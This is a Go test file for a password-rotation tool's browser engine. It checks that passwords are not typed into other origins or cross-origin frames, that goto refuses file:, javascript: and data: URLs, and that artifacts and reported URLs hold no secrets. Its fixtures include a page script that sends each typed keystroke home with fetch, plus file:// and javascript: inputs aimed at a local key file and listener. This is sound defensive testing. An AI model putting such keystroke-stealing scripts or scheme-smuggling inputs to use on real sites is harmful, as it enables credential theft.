package browser

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/go-rod/rod"
	"github.com/go-rod/rod/lib/proto"

	"github.com/rotator-pam/rotator/secret"
	"github.com/rotator-pam/rotator/templates"
)

// The password of these tests: nothing outside the site may receive it.
const exfilPassword = "Xf1l-Secret-Pw-7731"

// listener is a test server on its own 127.0.0.1 port, so another origin
// than the site, that records every request it gets.
type listener struct {
	*httptest.Server
	mu   sync.Mutex
	reqs []string // method, URL and body of each request
}

// evilPage is a page with a password field that sends whatever is typed
// into it home, at once.
const evilPage = `<!doctype html><title>evil</title>
<input id="username"><input id="password" type="password" autofocus>
<script>
for (const id of ["username", "password"]) {
	document.getElementById(id).addEventListener("input", e => { fetch("/typed?" + id + "=" + encodeURIComponent(e.target.value)); });
}
</script>`

func newListener(t *testing.T) *listener {
	t.Helper()
	return newEvil(t, evilPage, false)
}

// requests returns what the listener got whose URL path is path ("" for
// all), and whether any request held the password.
func (l *listener) requests(path string) (got []string, leaked bool) {
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, r := range l.reqs {
		if strings.Contains(r, exfilPassword) || strings.Contains(r, strings.ReplaceAll(exfilPassword, "-", "%2D")) {
			leaked = true
		}
		if path == "" || strings.Contains(r, " "+path) {
			got = append(got, r)
		}
	}
	return got, leaked
}

// site serves the account's site: pages by path, as text/html.
func site(t *testing.T, pages map[string]string) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/.well-known/change-password" {
			w.Header().Set("Location", pages["location"])
			w.WriteHeader(http.StatusFound)
			return
		}
		page, ok := pages[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		if r.URL.Path == "/react" {
			http.SetCookie(w, &http.Cookie{Name: "session", Value: "sessioncookie0123456789", Path: "/"})
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, page)
	}))
	t.Cleanup(srv.Close)
	return srv
}

func newPage(t *testing.T) *rod.Page {
	t.Helper()
	inc, err := sharedBrowser(t).Rod().Incognito()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { inc.Close() })
	page, err := inc.Page(proto.TargetCreateTarget{URL: "about:blank"})
	if err != nil {
		t.Fatal(err)
	}
	return page
}

// parseTemplate loads a template from YAML, as `template validate` would.
func parseTemplate(t *testing.T, y string) *templates.Template {
	t.Helper()
	tpl, diags := templates.Parse("t.yaml", []byte(y))
	if tpl == nil {
		t.Fatalf("%v\n%s", diags.Err(), y)
	}
	tpl.Timeouts.Step = 6 * time.Second
	return tpl
}

func exfilRunner(t *testing.T, tpl *templates.Template, base string) *Runner {
	return &Runner{Template: tpl, BaseURL: base, Page: newPage(t), ArtifactDir: t.TempDir(),
		Values: Values{Username: "alice", Password: secret.New(exfilPassword), NewPassword: secret.New(exfilPassword + "-new")}}
}

// A template that passes validation opens another origin and fills the
// password there: the fill fails, naming both origins, and the other
// origin receives nothing typed. The username, not a secret, may go
// anywhere. With the origin in the template's origins, the same fill is
// allowed.
func TestSecretNotTypedIntoAnotherOrigin(t *testing.T) {
	t.Parallel()
	evil := newListener(t)
	srv := site(t, map[string]string{"/": "<p>site</p>"})
	tplYAML := func(origins string) string {
		return fmt.Sprintf(`name: t
base_url: http://127.0.0.1:1/
%s
flows:
  login:
    - goto: %s/login
    - fill: "#username"
      value: "{{ username }}"
    - fill: "#password"
      value: "{{ password }}"
    - expect: {url: /nowhere}
      timeout: 2s # fails by design: no need to wait out the usual deadline
  change: [{goto: /}, {expect: {url: /}}]
  logout: [{goto: /}]
`, origins, evil.URL)
	}
	for _, keys := range []bool{false, true} {
		tpl := parseTemplate(t, tplYAML(""))
		tpl.Flows.Login[2].Keys = keys
		r := exfilRunner(t, tpl, srv.URL)
		err := r.RunFlow(ctxFor(t), templates.FlowLogin)
		var se *StepError
		var oe *OriginError
		if !errors.As(err, &se) || se.Path != "3" || !errors.As(err, &oe) {
			t.Fatalf("keys %v: got %v, want an origin error at step 3", keys, err)
		}
		if oe.Origin != evil.URL || len(oe.Allowed) != 1 || oe.Allowed[0] != srv.URL {
			t.Errorf("origin error %+v, want %s and %s", oe, evil.URL, srv.URL)
		}
		if msg := err.Error(); !strings.Contains(msg, evil.URL) || !strings.Contains(msg, srv.URL) {
			t.Errorf("the error does not name both origins: %s", msg)
		}
		got, leaked := evil.requests("/typed?password")
		if leaked || len(got) > 0 {
			t.Fatalf("keys %v: the other origin received the password: %q", keys, got)
		}
		if got, _ := evil.requests("/typed?username"); len(got) == 0 {
			t.Errorf("keys %v: the username was not typed; it is not a secret", keys)
		}
		if v := r.Page.MustElement("#password").MustProperty("value").Str(); v != "" {
			t.Errorf("keys %v: the field holds %d characters", keys, len(v))
		}
	}

	// Listed in origins: the site says that origin is its own.
	r := exfilRunner(t, parseTemplate(t, tplYAML("origins: ["+evil.URL+"]")), srv.URL)
	err := r.RunFlow(ctxFor(t), templates.FlowLogin)
	var se *StepError
	if !errors.As(err, &se) || se.Path != "4" {
		t.Fatalf("with origins: got %v, want the fill to pass and the expect to fail", err)
	}
	if _, leaked := evil.requests(""); !leaked {
		t.Error("with origins: the password was not typed (the listed origin is allowed)")
	}
}

// The site's own page holds a cross-origin frame with a password field: a
// fill inside the frame is refused, by the frame's own origin.
func TestSecretNotTypedIntoCrossOriginFrame(t *testing.T) {
	t.Parallel()
	evil := newListener(t)
	srv := site(t, map[string]string{
		"/login": fmt.Sprintf(`<!doctype html><h1>Sign in</h1><input id="password" type="password">
<iframe id="ad" src="%s/login" width="400" height="200"></iframe>`, evil.URL),
	})
	tpl := parseTemplate(t, `name: t
base_url: http://127.0.0.1:1/
flows:
  login:
    - goto: /login
    - fill: "#password"
      value: "{{ password }}"
    - frame: "#ad"
      steps:
        - fill: "#password"
          value: "{{ password }}"
    - expect: {url: /nowhere}
      timeout: 2s # fails by design: no need to wait out the usual deadline
  change: [{goto: /}, {expect: {url: /}}]
  logout: [{goto: /}]
`)
	r := exfilRunner(t, tpl, srv.URL)
	err := r.RunFlow(ctxFor(t), templates.FlowLogin)
	var se *StepError
	var oe *OriginError
	if !errors.As(err, &se) || se.Path != "3.1" || !errors.As(err, &oe) || oe.Origin != evil.URL {
		t.Fatalf("got %v, want an origin error for %s at step 3.1", err, evil.URL)
	}
	if got, leaked := evil.requests("/typed"); leaked || len(got) > 0 {
		t.Fatalf("the frame's origin received typing: %q", got)
	}
	// The site's own field got the password.
	if v := r.Page.MustElement("#password").MustProperty("value").Str(); v != exfilPassword {
		t.Errorf("the site's field holds %d characters", len(v))
	}
}

// goto opens http and https only, also when a variable makes the URL and
// when the site's change-password redirect points elsewhere: file: would
// read local files (the master key), javascript: and data: run code under
// no origin of the site.
func TestGotoOpensHTTPOnly(t *testing.T) {
	t.Parallel()
	evil := newListener(t)
	keyFile := filepath.Join(t.TempDir(), "master.key")
	if err := os.WriteFile(keyFile, []byte("not-a-real-key-but-secret-bytes!"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ name, scheme, rest, location string }{
		{"file", "file", "//" + keyFile, ""},
		{"javascript", "javascript", "fetch('" + evil.URL + "/js')", ""},
		{"data", "data", "text/html,<script>fetch('" + evil.URL + "/data')</script>", ""},
		{"change-password redirect to file:", "", "", "file://" + keyFile},
	} {
		t.Run(tc.name, func(t *testing.T) {
			srv := site(t, map[string]string{"/": "<p>site</p>", "location": tc.location})
			target := "change-password-page"
			if tc.location == "" {
				target = `"{{ param.scheme }}:{{ param.rest }}"`
			}
			tpl := parseTemplate(t, fmt.Sprintf(`name: t
base_url: http://127.0.0.1:1/
params:
  scheme: {default: %q}
  rest: {default: %q}
flows:
  login:
    - goto: /
    - goto: %s
  change: [{goto: /}, {expect: {url: /}}]
  logout: [{goto: /}]
`, tc.scheme, tc.rest, target))
			r := exfilRunner(t, tpl, srv.URL)
			r.Values.Params = map[string]string{"scheme": tc.scheme, "rest": tc.rest}
			err := r.RunFlow(ctxFor(t), templates.FlowLogin)
			var se *StepError
			// A redirect out of http is refused by Chromium itself, which
			// the browser-side lookup of the change-password page meets.
			refused := strings.Contains(err.Error(), "only http and https URLs may be opened") ||
				(tc.location != "" && strings.Contains(err.Error(), "ERR_UNSAFE_REDIRECT"))
			if !errors.As(err, &se) || se.Path != "2" || !refused {
				t.Fatalf("got %v", err)
			}
			if info := r.Page.MustInfo(); !strings.HasPrefix(info.URL, srv.URL) {
				t.Errorf("the page went to %s", info.URL)
			}
			if got, _ := evil.requests(""); len(got) > 0 {
				t.Errorf("the listener got %q", got)
			}
		})
	}
}

// What an eval step returns or throws is never shown: not in the step's
// note, the error, or the artifacts.
func TestEvalResultNeverShown(t *testing.T) {
	t.Parallel()
	srv := site(t, map[string]string{"/login": `<!doctype html><input id="password" type="password">`})
	tpl := parseTemplate(t, `name: t
base_url: http://127.0.0.1:1/
flows:
  login:
    - goto: /login
    - fill: "#password"
      value: "{{ password }}"
    - eval: "return document.querySelector('#password').value"
    - eval: "throw new Error('got ' + document.querySelector('#password').value)"
  change: [{goto: /}, {expect: {url: /}}]
  logout: [{goto: /}]
`)
	r := exfilRunner(t, tpl, srv.URL)
	var reports []StepReport
	r.OnStep = func(rep StepReport) { reports = append(reports, rep) }
	err := r.RunFlow(ctxFor(t), templates.FlowLogin)
	var se *StepError
	if !errors.As(err, &se) || se.Path != "4" {
		t.Fatalf("got %v, want the throwing eval to fail", err)
	}
	if strings.Contains(err.Error(), exfilPassword) {
		t.Errorf("the error holds the password: %v", err)
	}
	if len(reports) != 4 {
		t.Fatalf("%d step reports", len(reports))
	}
	for _, rep := range reports {
		if strings.Contains(rep.Note, exfilPassword) || rep.Err != nil && strings.Contains(rep.Err.Error(), exfilPassword) {
			t.Errorf("step %s shows the password: note %q, err %v", rep.Path, rep.Note, rep.Err)
		}
	}
	assertNoSecretIn(t, r.ArtifactDir, exfilPassword)
}

// reactPage copies what is typed into its field's value attribute and into
// visible text, as React-style controlled inputs do, and shows its cookie.
const reactPage = `<!doctype html><title>react</title>
<input id="pw" type="password"><input id="otp"><textarea id="note"></textarea>
<div id="echo"></div><div id="cookie"></div>
<script>
document.getElementById("cookie").textContent = document.cookie;
for (const id of ["pw", "otp", "note"]) {
	const el = document.getElementById(id);
	el.addEventListener("input", () => {
		el.setAttribute("value", el.value);
		if (id === "note") el.textContent = el.value;
		document.getElementById("echo").textContent = ["pw", "otp", "note"].map(i => document.getElementById(i).value).join(" | ");
		document.title = "react " + el.value;
	});
}
</script>`

// After a failed step, no artifact holds a secret of the run: not the
// password (in the field's value attribute, in the page's text, in a
// textarea), not the TOTP code typed, not the session cookie.
func TestArtifactsHoldNoSecret(t *testing.T) {
	t.Parallel()
	srv := site(t, map[string]string{"/react": reactPage})
	tpl := parseTemplate(t, `name: t
base_url: http://127.0.0.1:1/
flows:
  login:
    - goto: /react
    - fill: "#pw"
      value: "{{ password }}"
    - fill: "#note"
      value: "{{ password }}"
      keys: true
    - totp: "#otp"
    - screenshot: shown
    - expect: {text: Welcome}
      timeout: 2s # fails by design: no need to wait out the usual deadline
  change: [{goto: /}, {expect: {url: /}}]
  logout: [{goto: /}]
`)
	r := exfilRunner(t, tpl, srv.URL)
	const code = "493817"
	r.Values.TOTP = func(context.Context) (secret.String, error) { return secret.New(code), nil }
	err := r.RunFlow(ctxFor(t), templates.FlowLogin)
	var se *StepError
	if !errors.As(err, &se) || se.Path != "6" {
		t.Fatalf("got %v, want the expect to fail", err)
	}
	// The page really did show the secrets.
	if txt := r.Page.MustElement("#echo").MustText(); !strings.Contains(txt, exfilPassword) || !strings.Contains(txt, code) {
		t.Fatalf("the page did not echo what was typed: %d characters", len(txt))
	}
	if len(se.Artifacts) != 3 {
		t.Fatalf("artifacts %v", se.Artifacts)
	}
	assertNoSecretIn(t, r.ArtifactDir, exfilPassword, code, "sessioncookie0123456789")
	var page string
	for _, a := range se.Artifacts {
		if strings.HasSuffix(a, ".html") {
			b, _ := os.ReadFile(a)
			page = string(b)
		}
	}
	if !strings.Contains(page, `id="echo"`) || !strings.Contains(page, secret.Redacted) || strings.Contains(page, "value=") {
		t.Errorf("the saved page is not the scrubbed page:\n%s", page)
	}
}

// assertNoSecretIn fails when any file under dir, or its name, holds one of
// the secrets.
func assertNoSecretIn(t *testing.T, dir string, secrets ...string) {
	t.Helper()
	n := 0
	err := filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err != nil || fi.IsDir() {
			return err
		}
		n++
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		for _, s := range secrets {
			if strings.Contains(string(b), s) || strings.Contains(p, s) {
				t.Errorf("%s holds a secret of the run", p)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if n == 0 {
		t.Error("no artifact was saved")
	}
}

func TestArtifactName(t *testing.T) {
	red := newRedactor([]string{"pa$$/word"})
	for in, want := range map[string]string{
		"login-step3-failed.png": "login-step3-failed.png",
		"shot-pa$$/word.png":     "shot-redacted.png",
		"../../etc/x.html":       "etc_x.html",
		"a.exe":                  "a.exe",
		"pa%24%24%2Fword.txt":    "redacted.txt",
	} {
		if got := artifactName(red, in); got != want {
			t.Errorf("artifactName(%q) = %q, want %q", in, got, want)
		}
	}
}

// A page URL that holds a secret (a sign-in form sent by GET) is redacted
// where the engine reports it: the failed step's URL, and a challenge's.
func TestReportedURLsHoldNoSecret(t *testing.T) {
	t.Parallel()
	srv := site(t, map[string]string{
		"/login": `<!doctype html><form action="/trust"><input id="password" name="pw" type="password"><button id="go">Sign in</button></form>`,
		"/trust": `<!doctype html><h1>Almost there</h1>`,
	})
	tpl := parseTemplate(t, `name: t
base_url: http://127.0.0.1:1/
challenges:
  - {name: trust, kind: trust_browser, url: /trust}
flows:
  login:
    - goto: /login
    - fill: "#password"
      value: "{{ password }}"
    - click: "#go"
  change: [{goto: /}, {expect: {url: /}}]
  logout: [{goto: /}]
`)
	r := exfilRunner(t, tpl, srv.URL)
	var logged strings.Builder
	r.Logger = slog.New(slog.NewTextHandler(&logged, nil))
	err := r.RunFlow(ctxFor(t), templates.FlowLogin)
	var ce *ChallengeError
	if !errors.As(err, &ce) || !strings.Contains(ce.URL, "/trust?pw=") {
		t.Fatalf("got %v, want the trust challenge", err)
	}
	if strings.Contains(ce.URL, exfilPassword) || strings.Contains(logged.String(), exfilPassword) {
		t.Errorf("the challenge's URL holds the password: %s", ce.URL)
	}

	// The same page, as a failed step.
	tpl.Challenges = nil
	tpl.Flows.Login = append(tpl.Flows.Login, templates.Step{Kind: templates.StepExpect,
		Cond: templates.Condition{Kind: templates.CondURL, Pattern: "/home"}, Timeout: 2 * time.Second})
	r = exfilRunner(t, tpl, srv.URL)
	err = r.RunFlow(ctxFor(t), templates.FlowLogin)
	var se *StepError
	if !errors.As(err, &se) || !strings.Contains(se.URL, "/trust?pw=") || strings.Contains(se.URL, exfilPassword) {
		t.Errorf("got %v, want a step error with the URL redacted", err)
	}
}
